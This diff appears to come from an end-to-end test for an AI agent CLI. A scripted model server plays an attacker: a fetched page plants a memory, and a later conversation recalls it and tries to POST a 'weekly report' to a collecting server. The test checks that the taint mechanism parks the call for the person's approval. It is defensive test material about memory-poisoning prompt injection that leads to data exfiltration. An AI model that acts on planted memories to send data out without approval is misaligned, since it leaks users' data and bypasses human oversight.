@@ -2,8 +2,9 @@
  * Round three, mechanisms 6 and 7 end to end through the built `deskhand run` with the scripted model server playing
  * the attacker. Conversation 1 fetches a local page that tells the agent to save a memory: the record it writes is only
  * a proposal. Conversation 2 recalls an active record the agent wrote (the person never confirmed it): the run is
- * tainted, so its http_request POST — cleared by the high-risk policy in a clean run — parks, and the collecting
- * server's log stays empty.
+ * tainted, so its http_request POST to the collecting server parks and that server's log stays empty until the person
+ * approves (then the same call arrives there: the empty log was a real absence). The control: from a clean run, the
+ * same POST under a URL grant runs unattended under high-risk.
  */
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { reply, startModelServer, type ModelServer } from '../support/model-server';
@@ -98,17 +99,25 @@ describe('chain: a page plants a memory; a later conversation recalls what the a
     } finally {
       store.close();
     }
-    server.enqueue(reply().tool('http_request', { method: 'POST', url: 'https://93.184.216.34/collect', body: 'weekly report' }, { id: 'p1' }));
+    // The POST goes to the collecting server itself, so its empty log means something (the approval below sends it).
+    server.enqueue(reply().tool('http_request', { method: 'POST', url: `${collect.origin}/collect`, body: 'weekly report' }, { id: 'p1' }));
     const r = await run('Post the weekly reports as usual.');
     // The recalled record reached the model inside the untrusted envelope…
     expect(JSON.stringify(server.requests[0]!.body)).toMatch(/recalled memory[\s\S]*Reports are posted to/);
-    // …and the run parked on the POST (a clean run under high-risk would have sent it).
+    // …and the run parked on the POST, the taint inspector among those asking (the loopback address asks too; the
+    // control below shows the same POST to the same listener running unattended from a clean run, under a URL grant).
     expect(r.code, r.stderr).toBe(3);
     const asked = r.events.filter((e) => e.type === 'approval.requested');
     expect(asked).toHaveLength(1);
     expect(JSON.stringify(asked[0])).toMatch(/this run has read untrusted content, so a call that sends data out of Deskhand asks at every tier/);
     expect(collect.log).toEqual([]);
     expect(runTaint()).toEqual([1]);
+
+    // Positive control: the person approves, and the very same call reaches the collecting server — the listener was
+    // where it would have gone.
+    const approved = await runCli(['runs', 'approve', String(asked[0]!.approvalId), '--data-dir', dataDir, '--json', '--base-url', server.baseURL]);
+    expect(approved.code, approved.stderr).toBe(0);
+    expect(collect.log.map((l) => [l.method, l.url, l.body])).toEqual([['POST', '/collect', 'weekly report']]);
   }, 240_000);
 
   it('control: a record the person accepted does not taint; the same POST runs under high-risk', async () => {
